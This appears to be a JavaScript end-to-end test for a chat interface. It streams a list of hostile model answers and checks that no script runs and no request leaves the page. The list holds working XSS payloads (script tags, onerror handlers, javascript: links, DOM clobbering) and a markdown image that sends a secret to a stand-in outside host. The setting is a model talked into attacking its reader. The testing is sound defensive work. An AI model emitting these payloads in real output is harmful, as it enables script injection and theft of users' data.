// A model that was talked into attacking the reader: no script runs, nothing is asked of another host.
import assert from 'node:assert/strict';
import { describe } from 'node:test';
import { eventually } from './support/processes.mjs';
import { stage } from './support/scene.mjs';

const ELSEWHERE = 'http://elsewhere.invalid';

const PAYLOADS = [
  '<script>window.attacked = 1</script>',
  '<img src=x onerror="window.attacked = 2">',
  `<img src="${ELSEWHERE}/html.png">`,
  `![steal](${ELSEWHERE}/image.png?secret=1)`,
  `![ref][r]\n\n[r]: ${ELSEWHERE}/reference.png`,
  `<iframe src="${ELSEWHERE}/frame"></iframe><iframe srcdoc="<script>parent.attacked = 3</script>"></iframe>`,
  '<svg onload="window.attacked = 4"><use href="data:image/svg+xml,<svg/>"></use></svg>',
  '[click](javascript:window.attacked=5)',
  '[click](  JaVa\tScRiPt:window.attacked=6)',
  '[click](data:text/html,<script>opener.attacked=7</script>)',
  '<a href="javascript:window.attacked=8">html link</a>',
  `<style>@import url(${ELSEWHERE}/style.css); * { background: url(${ELSEWHERE}/css.png) }</style>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/link.css"><meta http-equiv="refresh" content="0; url=${ELSEWHERE}/refresh">`,
  `<video poster="${ELSEWHERE}/poster.png" src="${ELSEWHERE}/video.mp4" autoplay></video>`,
  `<form action="${ELSEWHERE}/form"><button>Send</button></form><base href="${ELSEWHERE}/">`,
  '<details open ontoggle="window.attacked = 9"><summary>x</summary></details>',
  '<math><mtext></p><img src=x onerror="window.attacked=10"></mtext></math>',
  '```html\n<script>window.attacked = 11</script>\n```',
  '```"><img src=x onerror=window.attacked=12>\ncode\n```',
  '$$\\href{javascript:window.attacked=13}{x}$$',
  '<openai-chatkit></openai-chatkit><a id="chat" name="setOptions">clobber</a>',
  '| a | b |\n| --- | --- |\n| <img src=x onerror=window.attacked=14> | [x](javascript:window.attacked=15) |',
];

for (const kind of ['responses', 'chat_completions']) {
  describe(`hostile answers of the model server “${kind}”`, () => {
    const { scene } = stage({ kind });

    scene('no script runs and no request leaves the page, while it streams and after a reload', async (visitor, { model }) => {
      const text = `${PAYLOADS.join('\n\n')}\n\nThe end of it.`;
      // In small pieces, so that every half of a tag is on the page once.
      await model.script({ steps: [{ step: 'text', text, chunk_chars: 7 }] });
      await visitor.open();
      await visitor.ask('Attack me');
      await visitor.says('The end of it.');
      for (let round = 0; round < 2; round++) {
        const links = visitor.lastAnswer.locator('a');
        for (const href of await links.evaluateAll((all) => all.map((link) => link.href))) {
          assert.match(href, /^(https?:|mailto:|tel:|chatkit-link:|$)/);
        }
        for (const tag of ['script', 'iframe', 'img', 'style', 'link', 'meta', 'video', 'form', 'base', 'object', 'embed']) {
          assert.equal(await visitor.lastAnswer.locator(`[part~="markdown"] ${tag}`).count(), 0, tag);
        }
        const handlers = await visitor.lastAnswer.evaluate((answer) =>
          [...answer.querySelectorAll('[part~="markdown"] *')].flatMap((node) => node.getAttributeNames().filter((name) => name.startsWith('on'))),
        );
        assert.deepEqual(handlers, []);
        // What would have run by now has run.
        await visitor.settled();
        assert.equal(await visitor.page.evaluate(() => window.attacked), undefined);
        await visitor.screenshot(`hostile-${kind}`);
        await visitor.page.reload();
        await visitor.answered(1);
        await visitor.says('The end of it.');
      }
    });

    scene('hostile titles, questions and citations are only text', async (visitor, { model }) => {
      const attack = '<img src=x onerror="window.attacked=1"><script>window.attacked=2</script>';
      await model.script({
        steps: [
          { step: 'text', text: 'Look here.' },
          ...(kind === 'responses' ? [{ step: 'annotation', url: 'javascript:window.attacked=3', title: attack }] : []),
        ],
      });
      await visitor.open();
      await visitor.ask(attack);
      assert.equal(await visitor.questions.innerText(), attack);
      await visitor.openHistory();
      await eventually('the title is shown', async () => /<img src=x/.test((await visitor.threadTitles())[0]));
      assert.equal(await visitor.lastAnswer.locator('a[href^="javascript"]').count(), 0);
      await visitor.settled();
      assert.equal(await visitor.page.evaluate(() => window.attacked), undefined);
    });

    scene('unusual text arrives as it was sent', async (visitor, { model }) => {
      await visitor.open();
      for (const text of ['مرحبا، كيف أفهرس مستنداتي؟', '👩🏽‍💻🏳️‍🌈 e\u0301 ｆｕｌｌ', 'a < b && c > d "quoted" \\ %00']) {
        await model.script({ steps: [{ step: 'text', text: `Echo: ${text}`, chunk_chars: 1 }] });
        await visitor.ask(text);
        assert.equal(await visitor.questions.last().innerText(), text);
      }
      await visitor.page.reload();
      await visitor.answered(3);
      assert.equal(await visitor.questions.first().innerText(), 'مرحبا، كيف أفهرس مستنداتي؟');
    });
  });
}
